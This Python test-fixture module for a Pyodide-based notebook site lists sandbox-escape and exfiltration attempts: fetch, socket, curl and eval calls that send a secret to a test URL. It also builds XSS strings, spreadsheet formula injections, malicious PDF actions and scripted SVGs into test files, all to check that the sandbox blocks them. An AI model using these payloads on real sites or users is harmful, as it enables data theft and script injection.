"""Attempts to leak data, or to change what a cell must not change.

A line each. WAYS are those of a cell of code: a name, and Python that would do it. URL is a file
on another computer, SITE is the site's own folder, SECRET is what must not get anywhere. Below
stand those of names and texts in files, pictures, addresses, and other pages.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterable

from PIL import Image, PngImagePlugin

from tests import containers

WAYS = {
    # requests to another computer
    "fetch": "await js.fetch(URL)",
    "fetch without permission": "await js.fetch(URL, mode='no-cors', method='POST', body=SECRET)",
    "fetch with a request": "await js.fetch(js.Request.new(URL))",
    "fetch of the prototype": "await js.WorkerGlobalScope.prototype.fetch.call(js.self, URL)",
    "fetch, dug up": "await js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "
    "'fetch').value.call(js.self, URL)",
    "fetchLater": "js.fetchLater(URL)",
    "XMLHttpRequest": "r = js.XMLHttpRequest.new(); r.open('GET', URL); r.send()",
    "WebSocket": "js.WebSocket.new(URL.replace('http', 'ws'))",
    "WebSocketStream": "js.WebSocketStream.new(URL.replace('http', 'ws'))",
    "EventSource": "js.EventSource.new(URL)",
    "WebTransport": "js.WebTransport.new(URL.replace('http', 'https'))",
    "WebRTC": "js.RTCPeerConnection.new()",
    "sendBeacon": "js.navigator.sendBeacon(URL, SECRET)",
    "a font": "await js.FontFace.new('a', f'url({URL})').load()",
    "importScripts": "js.importScripts(URL)",
    "a picture": "js.Image.new().src = URL",
    "a notification": "js.Notification.new('a', icon=URL)",
    "pyfetch": "from pyodide.http import pyfetch; await pyfetch(URL)",
    "open_url": "from pyodide.http import open_url; open_url(URL)",
    "urllib": "import urllib.request; urllib.request.urlopen(URL, timeout=1)",
    "http.client": "import http.client; http.client.HTTPConnection('127.0.0.1', PORT, "
    "timeout=1).request('GET', '/' + SECRET)",
    "a socket": "import socket; socket.create_connection(('127.0.0.1', PORT), timeout=1)",
    "a name's address": "import socket; n = socket.gethostbyname(SECRET + '.example'); "
    "assert n.startswith('172.29.'); raise OSError('made up by Emscripten')",
    "asyncio": "import asyncio; await asyncio.open_connection('127.0.0.1', PORT)",
    "a package from elsewhere": "import pyodide_js; await pyodide_js.loadPackage(URL + '.whl'); "
    "raise OSError('loadPackage only warns')",
    # scripts in places that have more rights
    "the site's worker": "js.Worker.new(SITE + 'worker/worker.js', type='module')",
    "a script from a Blob": "js.URL.createObjectURL(js.Blob.new(['fetch(1)']))",
    "a worker from a Blob": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch(1)'])))",
    "a worker from data": "js.Worker.new('data:text/javascript,fetch(1)')",
    "a worker, dug up": "js.WorkerGlobalScope.prototype.Worker.new('data:text/javascript,')",
    "a shared worker": "js.SharedWorker.new(SITE + 'worker/worker.js')",
    "the service worker": "await js.navigator.serviceWorker.register(SITE + 'sw.js')",
    "eval": "js.eval('fetch(1)')",
    "a function from text": "js.Function.new('return fetch')()",
    "a constructor's constructor": "js.Array.constructor.new('return fetch')()",
    "a timer's text": "import asyncio; js.setTimeout('fetch(1)'); await asyncio.sleep(0.1); "
    "raise OSError('the text does not run')",
    "run_js": "from pyodide.code import run_js; run_js('fetch(1)')",
    "import in JavaScript": "from pyodide.code import run_js; await run_js(f'import(\"{URL}\")')",
    "the document": "js.document.title = SECRET",
    "the window": "js.window.open(URL)",
    "the page's place": "js.location.assign(URL)",
    # the site's own server, which is others', too
    "a path of the site's server": "await js.fetch(SITE + SECRET)",
    "a question to the site's server": "await js.fetch(SITE + 'app.css?' + SECRET)",
    "a file with a name behind #": "await js.fetch(SITE + 'app.css#' + SECRET)",
    "the folder above": "await js.fetch(SITE + '../' + SECRET)",
    "the server's root": "await js.fetch('/' + SECRET)",
    "a property that all objects have": "await js.fetch(SITE + 'constructor')",
    # what lies on the device
    "other projects": "js.indexedDB.open('zeichenlabor ' + SITE[SITE.index('/', 8):])",
    "another site's projects": "js.indexedDB.open('of another')",
    "other projects, dug up": "js.IDBFactory.prototype.open.call(js.self, 'of another')",
    "the list of projects": "await js.indexedDB.databases()",
    "the site's copy": "await js.caches.open('zeichenlabor')",
    "cookies": "await js.cookieStore.set('a', SECRET)",
    "the file system": "await js.navigator.storage.getDirectory()",
    "buckets": "await js.navigator.storageBuckets.open('a')",
    "locks": "await js.navigator.locks.request('zeichenlabor', lambda lock: None)",
    "local storage": "js.localStorage.setItem('a', SECRET)",
    # the page itself
    "other tabs": "js.BroadcastChannel.new('zeichenlabor').postMessage('wanted')",
    "a forged count": "js.postMessage(js.Object.fromEntries([['kind', 'requests'], "
    "['foreign', -5]]))",
    "a forged reply": "js.self.postMessage(js.Object.fromEntries([['kind', 'reply'], ['id', 1]]))",
    "a page by the way to its starter": "js.self.parent.postMessage(SECRET)",
    "a start that failed": "import asyncio; js.reportError(js.Error.new(SECRET)); "
    "await asyncio.sleep(0.1); raise OSError('told on the console only')",
    "an end without a word": "js.close()",
    "an end without a word, dug up": "js.DedicatedWorkerGlobalScope.prototype.close.call(js.self)",
    "a message by a port's hands": "js.MessagePort.prototype.postMessage.call(js.self, SECRET)",
    "a message to the worker itself": "js.self.dispatchEvent(js.MessageEvent.new('message')); "
    "raise OSError('nobody hears it any more')",
    # what Pyodide, Emscripten and Python's library bring along
    "a file that comes in advance": "import asyncio, pyodide_js; "
    "pyodide_js.FS.createPreloadedFile('/', 'a', URL, True, False); await asyncio.sleep(0.1); "
    "raise OSError('told on the console only')",
    "projects as Emscripten's files": "import pyodide_js; "
    "pyodide_js.FS.filesystems.IDBFS.getDB('/a', lambda *_: None).open",
    "a library from elsewhere": "import pyodide_js; "
    "await pyodide_js._module.loadDynamicLibrary(URL, js.JSON.parse('{\"loadAsync\": true}'))",
    "a library of C": "import ctypes; ctypes.CDLL(URL); raise OSError('nothing is loaded')",
    "Pyodide's own reader": "import pyodide_js; await pyodide_js._api.loadBinaryFile(URL)",
    "pyxhr": "from pyodide.http import pyxhr; pyxhr.get(URL)",
    "Emscripten's wget": "import ctypes; "
    "ctypes.pythonapi.emscripten_async_wget(URL.encode(), b'/a', 0, 0); raise OSError('silent')",
    "a browser": "import webbrowser; assert webbrowser.open(URL)",
    "a program": "import subprocess; subprocess.run(['curl', URL], check=True)",
    "a shell": "import os; assert os.system('curl ' + URL) == 0",
    "a datagram": "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'', "
    "('127.0.0.1', PORT)); raise OSError('nobody has heard of it')",
    "a letter": "import smtplib; smtplib.SMTP('127.0.0.1', PORT, timeout=1)",
    "an entity of XML": "import xml.sax; xml.sax.parse(URL, xml.sax.ContentHandler())",
    "a module from elsewhere": "import sys; sys.path.insert(0, URL); import nowhere",
    "a file of NumPy": "import numpy; numpy.load(URL)",
    "what the bridge fetches with": "import gc; from zeichenlabor.bridge import Packages; "
    "from pyodide.ffi import to_js; "
    "packages = next(one for one in gc.get_objects() if isinstance(one, Packages)); "
    "await packages._fetch_files(to_js(['../' + SECRET, URL]), lambda *_: None); "
    "raise OSError('the manifest names neither')",
    # other names of what is gone
    "an asynchronous function from text": "js.Object.getPrototypeOf(js.fetch).constructor"
    ".new('return fetch(1)')()",
    "a function from text, by reflection": "js.Reflect.construct("
    "js.Object.getPrototypeOf(js.Reflect.get).constructor, ['return fetch'])()",
    "webkitURL": "js.webkitURL.createObjectURL(js.Blob.new(['fetch(1)']))",
    "an address' constructor": "js.URL.prototype.constructor.createObjectURL(js.Blob.new([]))",
    "the site's copy, dug up": "await js.CacheStorage.prototype.open.call(js.self, 'a')",
    "machine code that is streamed": "await js.WebAssembly.compileStreaming(js.fetch(URL))",
    "a filter of a canvas": "c = js.OffscreenCanvas.new(9, 9).getContext('2d'); "
    "c.filter = f'url({URL}#a)'; c.fillRect(0, 0, 9, 9); raise OSError('draws nothing')",
    "a font of a canvas": "c = js.OffscreenCanvas.new(9, 9).getContext('2d'); "
    "c.font = f'9px url({URL})'; c.fillText('a', 0, 9); raise OSError('draws nothing')",
    "a bitmap of a document": "await js.createImageBitmap(js.Blob.new([f'<svg xmlns="
    '"http://www.w3.org/2000/svg"><image href="{URL}"/></svg>\'], type=\'image/svg+xml\'))',
    # the page's own parts, by what is shown
    "an element in the place of a text": "from zeichenlabor.lab.code.display import _outlet; "
    "entries = lambda *pairs: js.Object.fromEntries([*map(list, pairs)]); _outlet.get()({'type': "
    "'text', 'stream': 'shown', 'text': entries(('type', 'a'), ('props', entries(('href', URL))), "
    "('constructor', None), ('__v', -1))}); raise OSError('it is data')",
    "an object in the place of a text": "from zeichenlabor.lab.code.display import _outlet; "
    "_outlet.get()({'type': 'text', 'stream': 'object', 'text': js.Object.fromEntries([['a', 1]])})"
    "; raise OSError('the page goes on, as the next test finds')",
    "a table, a chart, pictures and a network that are none": "from zeichenlabor.lab.code.display "
    "import _outlet; put = _outlet.get(); odd = {'a': 1, 'toString': 2}; [put({'type': kind, "
    "'rows': odd, 'lines': [odd], 'names': odd, 'values': [None], 'title': odd, 'edits': [odd], "
    "'count': 9, "
    "'pixels': odd, 'params': odd, 'settings': odd, 'start': odd, 'checkpoint': odd}) for kind in "
    "('table', 'chart', 'pictures', 'edited', 'fetching', 'failure', 'used', '__proto__', odd)]; "
    "raise OSError('the page goes on, as the next test finds')",
    "HTML in the place of a text": "from zeichenlabor.lab.code.display import _outlet; "
    "entries = lambda *pairs: js.Object.fromEntries([*map(list, pairs)]); leave = "
    "f'<meta http-equiv=refresh content=\"0;url={URL}\">'; _outlet.get()({'type': 'text', "
    "'stream': 'html', 'text': entries(('type', 'p'), ('props', "
    "entries(('dangerouslySetInnerHTML', entries(('__html', leave))))), "
    "('constructor', None), ('__v', -1))}); raise OSError('data')",
    # other spellings of an address
    "the folder above, from a folder": "await js.fetch(SITE + 'pyodide/../../' + SECRET)",
    "the folder above, encoded": "await js.fetch(SITE + '%2e%2e/' + SECRET)",
    "a name before the address": "await js.fetch(SITE.replace('//', f'//{SECRET}@'))",
    "an address without a protocol": "await js.fetch(URL.removeprefix('http:'))",
    "an address of backslashes": "await js.fetch(URL.replace('/', chr(92)))",
    "an object for an address": "await js.fetch(js.URL.new(URL))",
    # a file of the site for each letter of the secret: for this comes to an end, it is the last
    "files of the site as letters": "for _ in range(99): await js.fetch(SITE + 'icon.svg')",
}

# Those whose end is the browser's doing: its policy, its origins, what its workers have. The stage
# `long` tries them all in each browser.
DIFFERENT = [
    "fetch without permission",
    "fetch of the prototype",
    "XMLHttpRequest",
    "WebSocket",
    "a font",
    "the site's worker",
    "a worker from data",
    "import in JavaScript",
    "other projects, dug up",
    "the site's copy",
    "the file system",
    "other tabs",
]

SECRET = "geheim"

_TRY_ALL = """\
import asyncio, js, json
from pyodide.code import eval_code_async
told = {{}}
for name, way in {ways}.items():
    names = dict(js=js, URL={url!r}, SITE={site!r}, SECRET={secret!r}, PORT={port})
    try:
        await asyncio.wait_for(eval_code_async(way, names), 5)
        told[name] = "went through"
    except BaseException as error:
        told[name] = f"{{type(error).__name__}}: {{error}}"[:200]
print("TOLD", json.dumps(told))
"""


def attempt(site: str, url: str, names: Iterable[str] = WAYS) -> str:
    """A cell that tries the ways of these names."""
    port = int(url.rsplit(":", 1)[1].strip("/"))
    ways = json.dumps({name: WAYS[name] for name in names})
    return _TRY_ALL.format(ways=ways, site=site, url=url + SECRET, secret=SECRET, port=port)


def notebook(source: str) -> bytes:
    """The cell as a file of Jupyter, with what else could do harm in one."""
    html = {"text/html": [f"<img src=x onerror={DEED}>"], "application/javascript": DEED}
    cells = [
        {"cell_type": "markdown", "source": f"<script>{DEED}</script>", "metadata": {}},
        {"cell_type": "markdown", "source": list(TEXTS.values()), "metadata": {}},
        {"cell_type": "code", "source": source, "outputs": [{"data": html}], "metadata": {}},
    ]
    return json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode()


# What a script would do that must not run; URL stands for a file on another computer.
DEED = "window.hacked=1"

TEXTS = {
    "a picture's handler": f"<img src=x onerror={DEED}>",
    "a picture from elsewhere": "<img src=URL>",
    "a script": f"<script>{DEED}</script>",
    "a script from elsewhere": "<script src=URL></script>",
    "the end of a script": f"</script><script>{DEED}</script>",
    "a comment that hides a script's end": "<!--<script>",
    "the end of a style": "</style><link rel=icon href=URL>",
    "the end of a text field": f"</textarea><svg onload={DEED}>",
    "the end of a title": f"</title><svg/onload={DEED}>",
    "the end of an attribute": f"\"' autofocus onfocus={DEED} x='",
    "a template of JavaScript": f"`${{{DEED}}}`",
    "the end of a line, for JavaScript": f"\u2028{DEED}\u2029//",
    "the end of a string of Python": f'\'+str(1/0)+"""{DEED}',
    "a backslash": "\\",
    "an address that is a script": f"javascript:{DEED}",
    "a picture of a style": "url(URL)",
    "a style that fetches": "red;background:url(URL)",
    "a picture in Markdown": "![](URL)",
    "a link in Markdown": "[a](URL)",
    "a link in Markdown that is a script": f"[a](javascript:{DEED})",
    "a link that is a script": f"<a href=javascript:{DEED}>a</a>",
    "a rule of a style sheet": "} * { background: url(URL) } a {",
    "an import of a style sheet": "@import 'URL';",
    "names of styles": "visually-hidden is-done broken",
    "a formula": '=HYPERLINK("URL")',
    "a formula in disguise": '\t+IMPORTXML("URL","/a")',
    "a command of a spreadsheet": "=cmd|' /c calc'!A0",
    "a name that objects have": "__proto__",
    "a place for something else": "{file} {script} {0}",
    "a path": "../../../index.html",
    "an entity": "&lt;img src=x&gt;&#0;",
    "another direction": "\u202ephp.gpj",
}


def texts(url: str) -> list[str]:
    return [text.replace("URL", url + SECRET) for text in TEXTS.values()]


def picture(url: str) -> bytes:
    """A picture that is a document."""
    url += SECRET
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"
      width="60" height="60" onload="{DEED}"><script>parent.{DEED}</script><script x:href="{url}"/>
      <style>@import url({url}); rect {{ fill: url({url}#a) }}</style><image x:href="{url}"
      width="9" height="9"/><use href="{url}#a"/><foreignObject width="9" height="9"><iframe
      xmlns="http://www.w3.org/1999/xhtml" src="{url}"/></foreignObject><rect width="60"
      height="30"/></svg>""".encode()


# What a PDF may ask a viewer to do: by its catalog, and by the notes on its page.
PDF_CATALOG = {
    "a script when it opens": "/OpenAction << /S /JavaScript /JS (app.launchURL('URL'); DEED) >>",
    "a script at its end": "/AA << /WC << /S /JavaScript /JS (this.submitForm('URL')) >> >>",
    "a base for its links": "/URI << /Base (URL) >>",
    "a form in XML": "/AcroForm << /Fields [] /XFA (<script>DEED</script>) >>",
    "scripts and files with names": "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS"
    " (DEED) >>] >> /EmbeddedFiles << /Names [(b.html) << /Type /Filespec /FS /URL /F (URL) >>] >>"
    " >>",
}
PDF_NOTES = {
    "a link": "/Link /A << /S /URI /URI (URL) >>",
    "a link that is a script": "/Link /A << /S /URI /URI (javascript:DEED) >>",
    "a link to a program": "/Link /A << /S /Launch /F (URL) >>",
    "another PDF": "/Link /A << /S /GoToR /D [0 /Fit] /F << /FS /URL /F (URL) >> >>",
    "a script when it is seen": "/Widget /FT /Btn /AA << /PV << /S /JavaScript /JS (DEED) >> >>",
    "a form that is sent": "/Widget /FT /Btn /A << /S /SubmitForm /F << /FS /URL /F (URL) >> >>",
    "data for a form": "/Widget /FT /Btn /A << /S /ImportData /F (URL) >>",
    "a file": "/FileAttachment /FS << /Type /Filespec /FS /URL /F (URL) >>",
    "a film": "/Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D"
    " << /Type /Filespec /FS /URL /F (URL) >> >> >> >>",
    "markup": "/FreeText /RC (<body><img src='URL' onerror='DEED'></body>) /DA (/F 9 Tf)",
}


def pdf(url: str, page: Image.Image) -> bytes:
    """A page of paper that asks for all that, and whose second picture lies elsewhere."""

    def filled(text: str) -> str:
        return text.replace("URL", url + SECRET).replace("DEED", DEED)

    file = containers.Pdf()
    notes = [
        file.add(f"<< /Type /Annot /F 4 /Rect [0 0 420 594] /Subtype {filled(note)} >>")
        for note in PDF_NOTES.values()
    ]
    catalog = " ".join(map(filled, PDF_CATALOG.values()))
    file.objects[0] = (f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", None)
    scan = containers.jpeg(page)
    entries = f"{containers.GREY} /Filter /DCTDecode"
    pictures = [file.picture(page.size, entries, scan)]
    entries = filled("/ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (URL) >>")
    pictures.append(file.picture((9, 9), entries, b""))
    annotated = f"/Annots [{' '.join(f'{note} 0 R' for note in notes)}]"
    file.page(f"q {containers.WHOLE} /I0 Do Q q 1 0 0 1 0 0 cm /I1 Do Q", pictures, annotated)
    return file.written()


def png(url: str) -> bytes:
    """A picture that carries all texts, as its comments, its author, and where it was taken."""
    told = PngImagePlugin.PngInfo()
    for name, text in zip(TEXTS, texts(url), strict=True):
        told.add_text(name, text)
        told.add_itxt("XML:com.adobe.xmp", text)
    file = io.BytesIO()
    Image.new("L", (60, 60), 255).save(file, "PNG", pnginfo=told)
    return file.getvalue()


# Behind the site's own address.
ADDRESSES = {
    "markup": f"#learn/<img src=x onerror={DEED}>",
    "a script": f"#learn/javascript:{DEED}",
    "what objects have": "#__proto__",
    "what objects have, in a step": "#learn/constructor",
    "what objects have, deeper": "#learn/__proto__/toString",
    "what objects have, and a place in it": "#learn/__proto__/x",
    "what cannot be decoded": "#code/%E0%A4%A",
    "a path": "#learn/../../..//",
    "very much": "#learn/" + "a" * 100_000,
    "another start": f"?start=<script>{DEED}</script>&language=<b>#collect",
    "another start's place": "?start=__proto__&packages=//URL#train",
}

# What another page says to this one, in the words that its own parts use.
MESSAGES = [
    {"kind": "requests", "foreign": -5, "own": -5},
    {"kind": "boot", "state": "failed", "error": {"code": "boot/python", "params": {}}},
    {"kind": "reply", "id": 1, "result": {}},
    {"state": "update"},
    {"type": "wanted", "id": ""},
    {"type": "step/opened", "step": "code", "place": ""},
    "take over",
    "",
]

ENDING = {
    "Emscripten's own eval": "import ctypes; "
    "ctypes.pythonapi.emscripten_run_script(b\"fetch('URL')\")",
    "Emscripten's own worker": "import ctypes; ctypes.pythonapi.emscripten_create_worker(b'URL')",
    "a file that comes when it is read": "import pyodide_js; "
    "pyodide_js.FS.createLazyFile('/', 'a', 'URL', True, False); open('/a').read()",
}
"""Ways that are refused in the middle of C, which Python does not survive."""
